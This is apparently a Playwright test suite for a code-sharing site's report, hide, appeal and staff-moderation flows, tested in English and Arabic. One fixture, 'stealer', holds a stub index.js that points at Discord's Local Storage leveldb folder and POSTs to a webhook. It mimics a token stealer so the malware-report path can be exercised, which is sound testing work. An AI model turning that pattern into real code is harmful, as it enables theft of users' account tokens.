import { expect } from "@playwright/test";
import { expectAccessible } from "../support/accessible.ts";
import { inEachLanguage, type Walker } from "./staff-world.ts";

const stealer = [
  {
    path: "index.js",
    content:
      'const folder = join(home, "discord", "Local Storage", "leveldb");\nfetch(webhook, { method: "POST" });\n',
  },
  { path: "src/commands/ping.js", content: "export const ping = () => 'pong';\n" },
];

/** A visitor is asked to log in; then the project is reported. */
async function report({ page, words, become, go }: Walker, codename: string): Promise<void> {
  await page.context().clearCookies();
  await go(`/project/${codename}`);
  // Once: a click that comes before the scripts is kept for them, and a dialog lies over the button.
  await page.getByRole("button", { name: words.report("open"), exact: true }).click();
  await expect(page.getByRole("dialog").getByText(words.report("login_needed"))).toBeVisible();
  await become("reporter");
  await go(`/project/${codename}`);
  const dialog = page.getByRole("dialog", { name: words.report("title") });
  await expect(async () => {
    if (!(await dialog.isVisible()))
      await page.getByRole("button", { name: words.report("open"), exact: true }).click({ timeout: 2_000 });
    await expect(dialog.getByRole("textbox")).toBeVisible({ timeout: 2_000 });
  }).toPass();
  await dialog.getByRole("radio", { name: new RegExp(`^${words.report("other")}`) }).check();
  await dialog.getByRole("button", { name: words.report("send") }).click();
  await expect(dialog.getByRole("textbox")).toHaveAttribute("aria-invalid", "true");
  await dialog.getByRole("radio", { name: new RegExp(`^${words.report("malware")}`) }).check();
  await dialog.getByRole("textbox").fill("index.js, السطر 1");
  await expectAccessible(page);
  await dialog.getByRole("button", { name: words.report("send") }).click();
  await expect(page.getByText(words.report("sent"))).toBeVisible();
  await expect(dialog).toBeHidden();
}

/** Staff find the report, read the copy and hide the project. */
async function hide({ page, words, become, go }: Walker, name: string): Promise<void> {
  await become("staff");
  await go("/staff");
  await page.getByRole("link", { name }).click();
  await expect(page.getByText("index.js, السطر 1")).toBeVisible();
  await page.getByRole("treeitem", { name: "index.js" }).click();
  await expect(page.getByText('"Local Storage"')).toBeVisible();
  await expectAccessible(page);
  await page.getByRole("button", { name: words.staff("hide"), exact: true }).click();
  const dialog = page.getByRole("dialog");
  await expect(dialog.getByRole("combobox")).toHaveValue("malware");
  await dialog.getByRole("textbox").fill("index.js, line 1");
  await dialog.getByRole("button", { name: words.staff("hide"), exact: true }).click();
  await expect(page.getByText(words.staff("decided_reports", { count: 1 }))).toBeVisible();
  await expect(page.getByRole("link", { name })).toHaveCount(0);
}

/** The owner reads the reason, on the site and in the mail, and appeals. */
async function appeal({ page, words, become, go }: Walker, codename: string): Promise<void> {
  await become("owner");
  expect(await go(`/project/${codename}`)).toBe(200);
  await expect(page.getByText(words.appeal("hidden_title"))).toBeVisible();
  await go("/notices");
  await expect(page.getByText(words.notice("is_new"), { exact: true })).toBeVisible();
  await expect(page.getByText(words.notice("reason", { reason: words.report("malware") }))).toBeVisible();
  await expectAccessible(page);
  await page.getByRole("button", { name: words.appeal("open"), exact: true }).click();
  const dialog = page.getByRole("dialog", { name: words.appeal("title") });
  await dialog.getByRole("button", { name: words.appeal("send") }).click();
  await expect(dialog.getByRole("textbox")).toHaveAttribute("aria-invalid", "true");
  await dialog.getByRole("textbox").fill("هذا درس عن الحماية.");
  await dialog.getByRole("button", { name: words.appeal("send") }).click();
  await expect(page.getByText(words.appeal("waiting"))).toBeVisible();
}

async function grant({ page, words, become, go }: Walker, name: string): Promise<void> {
  await become("staff");
  await go("/staff/appeals");
  const item = page.getByRole("listitem").filter({ hasText: name });
  await expect(item.getByText("هذا درس عن الحماية.")).toBeVisible();
  await expectAccessible(page);
  await item.getByRole("button", { name: words.staff("grant"), exact: true }).click();
  const dialog = page.getByRole("dialog");
  await dialog.getByRole("textbox").fill("Thank you.");
  await dialog.getByRole("button", { name: words.staff("grant"), exact: true }).click();
  await expect(page.getByText(words.staff("decided"), { exact: true })).toBeVisible();
  await expect(item).toHaveCount(0);
}

inEachLanguage("a report, its decision, and the appeal against it", async walker => {
  const { page, words, become, go, publish, name } = walker;
  const title = `Lesson ${name}`;
  const { codename, id } = await publish(title, stealer);
  await report(walker, codename);
  await hide(walker, title);
  await become("reporter");
  expect(await go(`/project/${codename}`)).toBe(404);
  await go("/notices");
  await expect(page.getByText(words.notice("report_hidden"))).toBeVisible();
  await appeal(walker, codename);
  await grant(walker, title);
  await become("owner");
  await go("/notices");
  await expect(page.getByText(words.notice("project_restored_text"))).toBeVisible();
  await page.context().clearCookies();
  expect(await go(`/project/${codename}`)).toBe(200);
  await become("staff");
  await go(`/staff/audit?subject=${id}`);
  const list = page.getByRole("main");
  for (const action of ["appeal_grant", "project_hide"] as const)
    await expect(list.getByText(words.staff(action), { exact: true }).last()).toBeVisible();
  await expectAccessible(page);
});

inEachLanguage("what staff do without a report", async walker => {
  const { page, words, become, go, publish, name } = walker;
  const title = `Plain ${name}`;
  const { codename } = await publish(title, [{ path: "index.js", content: "console.log('ok');\n" }]);
  await become("staff");
  await go("/staff/projects");
  await page.getByRole("searchbox").fill(title);
  await page.getByRole("button", { name: words.staff("search"), exact: true }).click();
  const row = page.getByRole("listitem").filter({ hasText: title });
  await row.getByRole("button", { name: words.staff("remove"), exact: true }).click();
  const dialog = page.getByRole("dialog");
  await dialog.getByRole("button", { name: words.staff("remove"), exact: true }).click();
  await expect(dialog.getByRole("combobox")).toHaveAttribute("aria-invalid", "true");
  await dialog.getByRole("combobox").selectOption("spam");
  await dialog.getByRole("button", { name: words.staff("remove"), exact: true }).click();
  await expect(row.getByText(words.staff("removed"), { exact: true })).toBeVisible();
  await expectAccessible(page);
  await become("owner");
  expect(await go(`/project/${codename}`)).toBe(404);
  await become("staff");
  await go(`/staff/projects?q=${encodeURIComponent(title)}`);
  await row.getByRole("button", { name: words.staff("restore"), exact: true }).click();
  await page
    .getByRole("dialog")
    .getByRole("button", { name: words.staff("restore"), exact: true })
    .click();
  await expect(row.getByText(words.staff("shown"), { exact: true })).toBeVisible();
  await become("owner");
  expect(await go(`/project/${codename}`)).toBe(200);
});

inEachLanguage("a code that staff write", async walker => {
  const { page, words, become, go, name } = walker;
  const id = `greeting-${name.replace(/\W+/g, "-").toLowerCase()}`;
  await become("staff");
  await go("/staff/codes");
  await page.getByRole("link", { name: words.codes("new_code") }).click();
  await page.getByLabel(words.codes("id"), { exact: true }).fill(id);
  await page.getByLabel(words.codes("title_en")).fill(`Greeting ${name}`);
  await page.getByLabel(words.codes("title_ar")).fill(`تحية ${name}`);
  await page.getByLabel(words.codes("description_en")).fill("Says hello on a page.");
  await page.getByLabel(words.codes("description_ar")).fill("يقول مرحبًا في صفحة.");
  await page.getByRole("combobox", { name: words.codes("kind"), exact: true }).selectOption("web");
  await page.getByRole("combobox", { name: words.codes("language"), exact: true }).selectOption("html");
  await page.getByTestId("code-files").setInputFiles([
    { name: "index.html", mimeType: "text/html", buffer: Buffer.from("<p>Hello</p>\n") },
    { name: "picture.png", mimeType: "image/png", buffer: Buffer.from([0x89, 0x50, 0, 1]) },
  ]);
  await expect(page.getByText(words.codes("skipped", { count: 1 }))).toBeVisible();
  await page.getByLabel(words.codes("new_file_path")).fill("styles/main.css");
  await page.getByRole("button", { name: words.codes("create_file"), exact: true }).click();
  await page.getByLabel(words.codes("file_text", { path: "styles/main.css" })).fill("p { color: teal; }\n");
  await expect(page.getByRole("treeitem", { name: /^styles/ })).toBeVisible();
  await page.getByRole("combobox", { name: words.codes("preview") }).selectOption("index.html");
  await page.getByRole("button", { name: words.codes("create"), exact: true }).click();
  await expect(page.getByLabel(words.codes("note_en"))).toHaveAttribute("aria-invalid", "true");
  await page.getByLabel(words.codes("note_en")).fill("First version");
  await page.getByLabel(words.codes("note_ar")).fill("النسخة الأولى");
  await expectAccessible(page);
  // Until the page of what was saved is there, nothing can be typed that it would take away.
  const arrival = Promise.withResolvers<void>();
  await page.route(`**/staff/codes/${id}.data*`, async route => {
    await arrival.promise;
    await route.continue();
  });
  await page.getByRole("button", { name: words.codes("create"), exact: true }).click();
  await expect(page.getByText(words.codes("saved_version", { number: 1 }))).toBeVisible();
  await expect(page.locator("[inert]").getByLabel(words.codes("note_en"))).toBeAttached();
  arrival.resolve();
  await page.getByRole("treeitem", { name: "index.html" }).click();
  await page.getByLabel(words.codes("file_text", { path: "index.html" })).fill("<p>Hello again</p>\n");
  await page.getByLabel(words.codes("note_en")).fill("Says it again");
  await page.getByLabel(words.codes("note_ar")).fill("يكررها");
  await page.getByRole("button", { name: words.codes("save"), exact: true }).click();
  await expect(page.getByText(words.codes("saved_version", { number: 2 }))).toBeVisible();
  await expect(
    page.getByRole("listitem").filter({ hasText: words.codes("version", { number: 2 }) }),
  ).toBeVisible();
  expect(await go(`/code/${id}`)).toBe(200);
});

inEachLanguage("the staff area is not there for others", async ({ page, become, go }) => {
  const paths = [
    "/staff",
    "/staff/projects",
    "/staff/appeals",
    "/staff/audit",
    "/staff/codes",
    "/staff/codes/new",
  ];
  for (const path of paths) expect([path, await go(path)]).toEqual([path, 404]);
  await become("owner");
  for (const path of paths) expect([path, await go(path)]).toEqual([path, 404]);
  await expect(page.getByRole("link", { name: "Staff area" })).toHaveCount(0);
});
